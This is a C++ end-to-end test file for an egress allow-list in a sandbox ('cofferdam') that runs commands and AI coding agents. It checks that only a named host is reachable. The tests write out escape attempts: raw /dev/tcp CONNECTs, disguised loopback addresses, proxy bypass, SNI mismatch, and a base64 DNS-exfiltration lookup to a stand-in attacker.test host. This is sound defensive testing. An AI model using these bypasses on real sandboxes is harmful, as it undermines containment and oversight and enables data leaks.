// The allow-list mode, whole: a real box, a real curl in it, a real TLS server outside under a name of the
// test's own. Every denial has its control in the same test.
#include <fmt/core.h>
#include <signal.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>

#include <functional>
#include <memory>
#include <mutex>
#include <thread>

#include "base/fd.h"
#include "base/io.h"
#include "base/text.h"
#include "contract/event.h"
#include "contract/json.h"
#include "e2e/fixture.h"
#include "support/name_server.h"
#include "unit/egress/tls_vendor.h"

namespace cofferdam::test {
namespace {

using egress::testing::Certificate;
using egress::testing::TlsVendor;
using egress::testing::VendorConnection;
using egress::testing::VendorRequest;

constexpr const char* kToken = "registry-test-SECRET-51b0d9";
constexpr const char* kAsk = "{\"turns\": [{\"blocks\": [{\"text\": \"It says hello.\"}]}]}";
// Says to the box's proxy whom it wants, and prints the status line.
const std::string kConnect =
    "ask() { bash -c 'exec 3<> /dev/tcp/127.0.0.1/20712 && printf \"CONNECT %s HTTP/1.1\\r\\nHost: "
    "%s\\r\\n\\r\\n\" "
    "\"$1\" \"$1\" >&3 && head -n 1 <&3' ask \"$1\" 2>&1; }; ";

class AllowList : public EndToEnd {
 protected:
  void SetUp() override {
    EndToEnd::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    ::signal(SIGPIPE, SIG_IGN);  // the servers run in this process, and connections are cut on purpose
    certificate_.emplace("DNS:registry.test,DNS:decoy.test");
    const auto answer = [](const VendorRequest& request, VendorConnection* connection) {
      const bool big = starts_with(request.head, "GET /big ");
      connection->write(
          egress::testing::json_answer(big ? std::string(400'000, 'x') : "{\"from\":\"listed\"}"));
    };
    listed_ = std::make_unique<TlsVendor>(*certificate_, answer);
    decoy_ = std::make_unique<TlsVendor>(*certificate_, answer);
    world().commit({{"ca.pem", certificate_->pem()}}, "the authority, for curl in the box");
    world().write(world().root() + "/ca.pem", certificate_->pem());
    world().write(world().root() + "/hosts", "127.0.0.1 localhost registry.test decoy.test\n");
    mutable_world().replace_files({world().root() + "/hosts=/etc/hosts"});
    open("");
  }
  void TearDown() override {
    listed_.reset();
    decoy_.reset();
    EndToEnd::TearDown();
  }
  std::string destination(const std::string& more) const {
    return fmt::format(
        "[[destinations]]\nname = \"packages\"\nhost = \"registry.test\"\nport = {}\n"
        "addresses = [\"127.0.0.0/8\"]\n{}\n[repositories.\"{}\"]\ndestinations = [\"packages\"]\n",
        listed_->port(), more, world().repo());
  }
  // The user's configuration opens the listed host for this repository.
  void open(const std::string& more) { world().write(world().config(), destination(more)); }
  std::string at(const std::string& host, std::uint16_t port) const {
    return fmt::format("{}:{}", host, port);
  }
  std::string url(const std::string& path) const {
    return "https://" + at("registry.test", listed_->port()) + path;
  }
  RunOutcome run(const std::string& script, const std::vector<std::string>& more = {}) {
    std::vector<std::string> args = {"--config", world().config()};
    args.insert(args.end(), more.begin(), more.end());
    return run_script(script, args);
  }
  const contract::DestinationFacts& facts(const RunOutcome& outcome) const {
    static const contract::DestinationFacts none;
    EXPECT_EQ(outcome.result->egress.destinations.size(), 1U);
    return outcome.result->egress.destinations.empty() ? none : outcome.result->egress.destinations.front();
  }

  std::optional<Certificate> certificate_;
  std::unique_ptr<TlsVendor> listed_;
  std::unique_ptr<TlsVendor> decoy_;
};

// A registry without TLS: keeps the heads that it got, and answers each with one line.
class PlainServer {
 public:
  PlainServer() : listener_(egress::testing::listen_on_loopback(&port_)), thread_([this] { serve(); }) {}
  PlainServer(const PlainServer&) = delete;
  PlainServer& operator=(const PlainServer&) = delete;
  ~PlainServer() {
    ::shutdown(listener_.get(), SHUT_RDWR);
    thread_.join();
  }
  std::uint16_t port() const { return port_; }
  std::vector<std::string> heads() {
    const std::lock_guard lock(mutex_);
    return heads_;
  }

 private:
  void serve() {
    while (true) {
      UniqueFd client(::accept4(listener_.get(), nullptr, nullptr, SOCK_CLOEXEC));
      if (!client.valid()) return;
      std::string head;
      bool would_block = false;
      while (head.find("\r\n\r\n") == std::string::npos) {
        auto bytes = read_some(client.get(), 4096, &would_block);
        if (!bytes || bytes->empty()) break;
        head += *bytes;
      }
      {
        const std::lock_guard lock(mutex_);
        heads_.push_back(head);
      }
      (void)write_all(client.get(), "HTTP/1.1 200 OK\r\ncontent-length: 6\r\n\r\nplain\n").has_value();
    }
  }
  std::uint16_t port_ = 0;
  UniqueFd listener_;
  std::mutex mutex_;
  std::vector<std::string> heads_;
  std::thread thread_;
};

#define SKIP_IF_NOT_SET_UP \
  if (IsSkipped() || HasFatalFailure()) return

TEST_P(AllowList, TheNamedHostIsReached) {
  SKIP_IF_NOT_SET_UP;
  RunOutcome outcome = run("curl -sS --cacert ca.pem " + url("/package") + " 2>&1");
  EXPECT_EQ(outcome.status.code, 0) << outcome.err;
  EXPECT_EQ(printed(outcome), "{\"from\":\"listed\"}");
  ASSERT_EQ(listed_->count(), 1U);
  EXPECT_EQ(listed_->requests()[0].sni, "registry.test");
  EXPECT_EQ(facts(outcome).host, "registry.test");
  EXPECT_EQ(facts(outcome).port, listed_->port());
  EXPECT_EQ(facts(outcome).connections, 1U);
  EXPECT_GT(facts(outcome).sent, 0U);
  EXPECT_GT(facts(outcome).received, facts(outcome).sent);
  EXPECT_EQ(outcome.result->egress.denied, 0U);
  EXPECT_EQ(outcome.result->usage.requests, 0U) << "nobody asked a vendor";
}

// Names by flag: what is configured for that host and port comes along, here its addresses.
TEST_P(AllowList, AFlagOpensItToo) {
  SKIP_IF_NOT_SET_UP;
  std::string config = destination("");
  world().write(world().config(), config.substr(0, config.find("[repositories")));
  const std::string act = "curl -sS --cacert ca.pem " + url("/package") + " 2>&1";
  RunOutcome outcome = run(act, {"--allow-host", at("Registry.test", listed_->port())});
  EXPECT_EQ(printed(outcome), "{\"from\":\"listed\"}");
  EXPECT_EQ(run(act).result->egress.destinations.size(), 0U) << "the control: configured, but not opened";
  world().write(world().config(), "");
  RunOutcome unranged = run(act, {"--allow-host", at("registry.test", listed_->port())});
  EXPECT_EQ(facts(unranged).denied, 1U) << "without ranges only global addresses are dialled";
  EXPECT_EQ(listed_->count(), 1U);
}

TEST_P(AllowList, NobodyElseIsReached) {
  SKIP_IF_NOT_SET_UP;
  const std::string port = std::to_string(decoy_->port());
  std::string script = kConnect;
  std::size_t asked = 0;
  for (const std::string& target :
       {"decoy.test:" + port, "registry.test:" + port, "registry.test.:" + std::to_string(listed_->port()),
        "127.0.0.1:" + port, "2130706433:" + port, "0x7f000001:" + port, "0177.0.0.1:" + port,
        "127.1:" + port, "[::1]:" + port, "[::ffff:127.0.0.1]:" + port, "localhost:" + port,
        "127.0.0.1:" + std::to_string(listed_->port())}) {
    script += "ask " + target + "; ";
    ++asked;
  }
  script += "echo the control; ask " + at("registry.test", listed_->port()) + "; curl -sS --cacert ca.pem " +
            url("/package") + "; curl -s -k -o /dev/null -w '\\n%{http_connect}' https://decoy.test:" + port;
  RunOutcome outcome = run(script);
  std::vector<std::string> lines = split(trim(printed(outcome)), '\n');
  ASSERT_EQ(lines.size(), asked + 4) << printed(outcome);
  for (std::size_t i = 0; i < asked; ++i) {
    EXPECT_TRUE(starts_with(lines[i], "HTTP/1.1 403")) << i << ": " << lines[i];
  }
  EXPECT_TRUE(starts_with(lines[asked + 1], "HTTP/1.1 200")) << lines[asked + 1];
  EXPECT_EQ(lines[asked + 2], "{\"from\":\"listed\"}");
  EXPECT_EQ(lines[asked + 3], "403");
  EXPECT_EQ(decoy_->connections(), 0U);
  EXPECT_GE(outcome.result->egress.denied, asked + 1);
}

// attacks.md D1, D10: what is denied is not looked up either.
TEST_P(AllowList, OnlyTheNamedHostIsLookedUp) {
  SKIP_IF_NOT_SET_UP;
  NameServer names({{"registry.test", "127.0.0.1"}, {"decoy.test", "127.0.0.1"}});
  if (!names.listens()) return skip_or_fail("name-server", "port 53 cannot be bound by this user");
  world().write(world().root() + "/hosts", "127.0.0.1 localhost\n");
  world().write(world().root() + "/resolv.conf", "nameserver " + names.address() + "\n");
  world().write(world().root() + "/nsswitch.conf", "hosts: files dns\n");
  mutable_world().replace_files({world().root() + "/hosts=/etc/hosts",
                                 world().root() + "/resolv.conf=/etc/resolv.conf",
                                 world().root() + "/nsswitch.conf=/etc/nsswitch.conf"});
  RunOutcome outcome = run(kConnect +
                           ("ask decoy.test:443; ask c2VjcmV0.attacker.test:443; ask registry.test:1; "
                            "getent hosts attacker.test; curl -sS --cacert ca.pem ") +
                           url("/package") + " 2>&1");
  EXPECT_NE(printed(outcome).find("{\"from\":\"listed\"}"), std::string::npos) << printed(outcome);
  EXPECT_EQ(outcome.result->egress.denied, 3U);
  std::vector<std::string> queries = names.queries();
  EXPECT_FALSE(queries.empty()) << "the control: the named host is looked up";
  for (const std::string& query : queries) EXPECT_EQ(query, "registry.test");
}

// attacks.md D7, by a real client: CONNECT to the named host, another name inside.
TEST_P(AllowList, AnotherNameInsideClosesTheTunnel) {
  SKIP_IF_NOT_SET_UP;
  const std::string port = std::to_string(listed_->port());
  RunOutcome outcome = run("curl -sS -k --connect-to decoy.test:" + port + ":registry.test:" + port +
                           " https://decoy.test:" + port + "/package 2>&1; echo; curl -sS --cacert ca.pem " +
                           url("/control") + " 2>&1");
  EXPECT_NE(printed(outcome).find("{\"from\":\"listed\"}"), std::string::npos) << "the control";
  ASSERT_EQ(listed_->count(), 1U) << "nobody is dialled for another name";
  EXPECT_EQ(listed_->requests()[0].sni, "registry.test");
  EXPECT_EQ(facts(outcome).denied, 1U);
  EXPECT_EQ(facts(outcome).connections, 1U);
}

TEST_P(AllowList, BytesBeyondTheBoundCloseTheTunnel) {
  SKIP_IF_NOT_SET_UP;
  open("max_received = 100000\n");
  RunOutcome outcome = run("curl -sS --cacert ca.pem " + url("/package") +
                           "; echo; curl -sS --cacert ca.pem " + url("/big") + " 2>/dev/null | wc -c");
  std::vector<std::string> lines = split(trim(printed(outcome)), '\n');
  ASSERT_EQ(lines.size(), 2U) << printed(outcome);
  EXPECT_EQ(lines[0], "{\"from\":\"listed\"}") << "the control";
  EXPECT_LT(std::stoull(lines[1]), 100'000U);
  EXPECT_LE(facts(outcome).received, 100'000U);
  EXPECT_EQ(facts(outcome).denied, 1U);
  EXPECT_EQ(outcome.result->outcome, contract::Outcome::completed) << "the program may go on";
  open("max_sent = 2000\n");
  RunOutcome sent =
      run("head -c 8000 /dev/zero | curl -sS --cacert ca.pem --data-binary @- " + url("/upload") + " 2>&1");
  EXPECT_EQ(facts(sent).denied, 1U);
  EXPECT_LE(facts(sent).sent, 2000U);
}

TEST_P(AllowList, WithoutDestinationsThereIsNoProxy) {
  SKIP_IF_NOT_SET_UP;
  const std::string act =
      "env | grep -i _proxy | sort; bash -c 'exec 3<> /dev/tcp/127.0.0.1/20712' 2>&1 && echo connected; true";
  RunOutcome open_box = run(act);
  EXPECT_EQ(
      printed(open_box),
      "HTTPS_PROXY=http://127.0.0.1:20712\nHTTP_PROXY=http://127.0.0.1:20712\nNO_PROXY=127.0.0.1,localhost\n"
      "http_proxy=http://127.0.0.1:20712\nhttps_proxy=http://127.0.0.1:20712\n"
      "no_proxy=127.0.0.1,localhost\nconnected\n")
      << "the control";
  world().write(world().config(), "");
  RunOutcome closed_box = run(act);
  EXPECT_EQ(printed(closed_box).find("PROXY"), std::string::npos) << printed(closed_box);
  EXPECT_EQ(printed(closed_box).find("connected"), std::string::npos);
  EXPECT_NE(printed(closed_box).find("refused"), std::string::npos) << printed(closed_box);
}

// attacks.md D2: without its variables a program has no way at all.
TEST_P(AllowList, OnlyThroughTheProxy) {
  SKIP_IF_NOT_SET_UP;
  RunOutcome outcome =
      run("curl -sS --noproxy '*' -k " + url("/package") + " 2>&1; curl -sS --noproxy '*' -k --resolve " +
          at("registry.test", listed_->port()) + ":127.0.0.1 " + url("/package") + " 2>&1; true");
  EXPECT_EQ(printed(outcome).find("listed"), std::string::npos) << printed(outcome);
  EXPECT_EQ(listed_->connections(), 0U);
  EXPECT_EQ(printed(run("curl -sS --cacert ca.pem " + url("/package"))), "{\"from\":\"listed\"}")
      << "the control";
}

TEST_P(AllowList, PlainHttpOnlyWhereItIsNamedSo) {
  SKIP_IF_NOT_SET_UP;
  PlainServer server;
  const auto open_at = [&](const char* plain) {
    world().write(world().config(),
                  fmt::format("[[destinations]]\nname = \"mirror\"\nhost = \"registry.test\"\nport = {}\n"
                              "addresses = [\"127.0.0.0/8\"]\nplain = {}\n[repositories.\"{}\"]\n"
                              "destinations = [\"mirror\"]\n",
                              server.port(), plain, world().repo()));
  };
  const std::string there = at("registry.test", server.port());
  const std::string act = "curl -sS http://" + there + "/dists/InRelease 2>&1; " +
                          "curl -s -o /dev/null -w '%{http_code}\\n' --data x http://" + there + "/upload; " +
                          "curl -s -o /dev/null -w '%{http_connect}\\n' https://" + there + "/; true";
  open_at("true");
  RunOutcome outcome = run(act);
  EXPECT_EQ(printed(outcome), "plain\n405\n403\n");
  ASSERT_EQ(server.heads().size(), 1U);
  EXPECT_TRUE(starts_with(server.heads()[0], "GET /dists/InRelease HTTP/1.1\r\nhost: " + there + "\r\n"))
      << server.heads()[0];
  EXPECT_EQ(server.heads()[0].find("proxy"), std::string::npos) << server.heads()[0];
  EXPECT_EQ(facts(outcome).connections, 1U);
  open_at("false");
  EXPECT_EQ(printed(run(act)).find("plain\n"), std::string::npos);
  // The server notes what came at its own pace.
  const auto end = std::chrono::steady_clock::now() + std::chrono::seconds(30);
  while (server.heads().size() < 2 && std::chrono::steady_clock::now() < end) ::usleep(10'000);
  for (const std::string& head : server.heads()) {
    EXPECT_TRUE(head == server.heads()[0] || !starts_with(head, "GET "))
        << "only TLS is let through: " << head;
  }
  EXPECT_EQ(server.heads().size(), 2U) << "the last of the three asks for a tunnel, which is now right";
}

// What an orchestrator sends, and what it is told: who, how much, and why not.
TEST_P(AllowList, EventsSayWhoHowMuchAndWhyNot) {
  SKIP_IF_NOT_SET_UP;
  contract::Json json = {
      {"schema", "cofferdam.invocation/1"},
      {"attempt_id", "told"},
      {"phase", "implementation"},
      {"agent",
       {{"name", "command"},
        {"argv",
         {"/bin/sh", "-c",
          "curl -sS --cacert ca.pem " + url("/package") + "; curl -s -k https://decoy.test/; true"}}}},
      {"clone", {{"repository", world().repo()}, {"head", world().git({"rev-parse", "HEAD"})}}},
      {"prompt", ""},
      {"deadlines", {{"total_ms", 600000}}},
      {"destinations",
       {{{"host", "registry.test"}, {"port", listed_->port()}, {"addresses", {"127.0.0.0/8"}}}}}};
  RunOutcome outcome = world().cofferdam({"exec", "-"}, json.dump() + "\n");
  ASSERT_TRUE(outcome.result.has_value()) << outcome.out << outcome.err;
  std::vector<contract::Json> seen;
  for (const std::string& line : split(trim(outcome.out), '\n')) {
    auto event = contract::parse_json_lenient(line, 1U << 20U, 64);
    if (event && event->value("type", "") == "egress") seen.push_back((*event)["data"]);
  }
  ASSERT_EQ(seen.size(), 2U) << outcome.out;
  EXPECT_EQ(seen[0]["host"], "registry.test");
  EXPECT_EQ(seen[0]["port"], listed_->port());
  EXPECT_EQ(seen[0]["rule"], "tunnel");
  EXPECT_EQ(seen[0]["denied"], false);
  EXPECT_EQ(seen[0]["request_bytes"], facts(outcome).sent);
  EXPECT_EQ(seen[0]["response_bytes"], facts(outcome).received);
  EXPECT_EQ(seen[1]["host"], "decoy.test");
  EXPECT_EQ(seen[1]["port"], 443);
  EXPECT_EQ(seen[1]["rule"], "tunnel: destination");
  EXPECT_EQ(seen[1]["denied"], true);
}

// The agents know both ways and keep them apart: the vendor's traffic never goes through the proxy.
class AgentWithAllowList : public AllowList {
 protected:
  void works(const std::string& agent, const std::string& target) {
    SKIP_IF_NOT_SET_UP;
    if (!need_agent(agent)) return;
    use_standin(kAsk, kTestKey, destination(""));
    RunOutcome outcome = world().cofferdam({"ask", "--json", "--config", world().config(), "--agent", agent,
                                            "--attempt-id", "asked", "What does it say?"});
    ASSERT_TRUE(outcome.result.has_value()) << outcome.out << outcome.err;
    EXPECT_EQ(outcome.status.code, 0) << outcome.out;
    EXPECT_EQ(outcome.result->answer, "It says hello.");
    EXPECT_FALSE(asked(target).empty());
    EXPECT_EQ(outcome.result->egress.denied, 0U) << "nothing was sent to the proxy";
    EXPECT_EQ(facts(outcome).connections, 0U);
  }
};

TEST_P(AgentWithAllowList, ClaudeAsksItsVendorDirectly) {
  works("claude", "/v1/messages");
}

TEST_P(AgentWithAllowList, CodexAsksItsVendorDirectly) {
  works("codex", "/v1/responses");
}

class PrivateRegistry : public AllowList {
 protected:
  void open_with_credential(const std::string& more) {
    open("credential = \"env\"\ncredential_env = \"REGISTRY_TOKEN\"\nca_bundle = \"" + world().root() +
         "/ca.pem\"\n" + more);
    mutable_world().extra_env = {std::string("REGISTRY_TOKEN=") + kToken};
  }
  std::string plain_url(const std::string& path) const {
    return "http://" + at("registry.test", listed_->port()) + path;
  }
  // What the server got of one request, "" when there was none or more.
  std::string head() const { return listed_->count() == 1 ? listed_->requests()[0].head : ""; }
};

TEST_P(PrivateRegistry, TheGatewaySetsTheCredential) {
  SKIP_IF_NOT_SET_UP;
  open_with_credential("");
  RunOutcome outcome = run("env; curl -sS -H 'Authorization: Bearer mine' -H 'Cookie: a=b' " +
                           plain_url("/private") + " 2>&1");
  EXPECT_NE(printed(outcome).find("{\"from\":\"listed\"}"), std::string::npos) << printed(outcome);
  EXPECT_NE(head().find(std::string("authorization: Bearer ") + kToken + "\r\n"), std::string::npos)
      << head();
  EXPECT_EQ(head().find("mine"), std::string::npos);
  EXPECT_EQ(head().find("a=b"), std::string::npos);
  EXPECT_TRUE(starts_with(head(), "GET /private HTTP/1.1\r\n")) << head();
  EXPECT_EQ(facts(outcome).connections, 1U);
  EXPECT_EQ((printed(outcome) + outcome.out + outcome.err).find("SECRET"), std::string::npos);
  Captured found = world().as_user({"/bin/sh", "-c", "grep -rl SECRET " + world().state() + " || true"});
  EXPECT_EQ(found.out, "");
}

TEST_P(PrivateRegistry, BasicIsUserAndPassword) {
  SKIP_IF_NOT_SET_UP;
  open_with_credential("credential_scheme = \"basic\"\n");
  mutable_world().extra_env = {"REGISTRY_TOKEN=me:pass word"};
  RunOutcome outcome = run("curl -sS " + plain_url("/private") + " 2>&1");
  EXPECT_NE(head().find("authorization: Basic bWU6cGFzcyB3b3Jk\r\n"), std::string::npos) << head();
}

// The credential is this host's alone, over TLS that the gateway has verified.
TEST_P(PrivateRegistry, NobodyElseGetsIt) {
  SKIP_IF_NOT_SET_UP;
  open_with_credential("");
  const std::string decoy = std::to_string(decoy_->port());
  RunOutcome outcome =
      run(kConnect +
          ("ask " + at("registry.test", listed_->port()) + "; for to in decoy.test:" + decoy +
           " registry.test:" + decoy + "; do curl -s -o /dev/null -w '%{http_code}\\n' http://$to/; done; ") +
          "curl -sS " + plain_url("/control") + " 2>&1");
  std::vector<std::string> lines = split(trim(printed(outcome)), '\n');
  ASSERT_EQ(lines.size(), 4U) << printed(outcome);
  EXPECT_TRUE(starts_with(lines[0], "HTTP/1.1 403")) << "a tunnel would have the box's own TLS: " << lines[0];
  EXPECT_EQ(lines[1], "403");
  EXPECT_EQ(lines[2], "403");
  EXPECT_EQ(lines[3], "{\"from\":\"listed\"}") << "the control";
  EXPECT_EQ(decoy_->connections(), 0U);
  // A server whose certificate nobody vouches for gets nothing.
  world().write(world().root() + "/ca.pem", Certificate("DNS:registry.test").pem());
  RunOutcome impostor = run("curl -s -o /dev/null -w '%{http_code}' " + plain_url("/impostor"));
  EXPECT_EQ(printed(impostor), "502");
  EXPECT_EQ(listed_->count(), 1U);
}

TEST_P(PrivateRegistry, AnInvocationCannotPointItElsewhere) {
  SKIP_IF_NOT_SET_UP;
  open_with_credential("");
  contract::Json json = {
      {"schema", "cofferdam.invocation/1"},
      {"attempt_id", "elsewhere"},
      {"phase", "implementation"},
      {"agent", {{"name", "command"}, {"argv", {"/bin/true"}}}},
      {"clone", {{"repository", world().repo()}, {"head", world().git({"rev-parse", "HEAD"})}}},
      {"prompt", ""},
      {"deadlines", {{"total_ms", 600000}}},
      {"destinations", {{{"host", "decoy.test"}, {"port", listed_->port()}, {"credential", "packages"}}}}};
  const std::vector<std::string> args = {"exec", "--config", world().config(), "-"};
  RunOutcome outcome = world().cofferdam(args, json.dump() + "\n");
  EXPECT_EQ(outcome.status.code, 3) << outcome.out << outcome.err;
  EXPECT_NE(outcome.err.find("no credential \"packages\" for decoy.test"), std::string::npos) << outcome.err;
  json["destinations"][0]["host"] = "registry.test";
  EXPECT_EQ(world().cofferdam(args, json.dump() + "\n").status.code, 0) << "the control";
}

COFFERDAM_FOR_BOTH_USERS(AllowList);
COFFERDAM_FOR_BOTH_USERS(AgentWithAllowList);
COFFERDAM_FOR_BOTH_USERS(PrivateRegistry);

}  // namespace
}  // namespace cofferdam::test
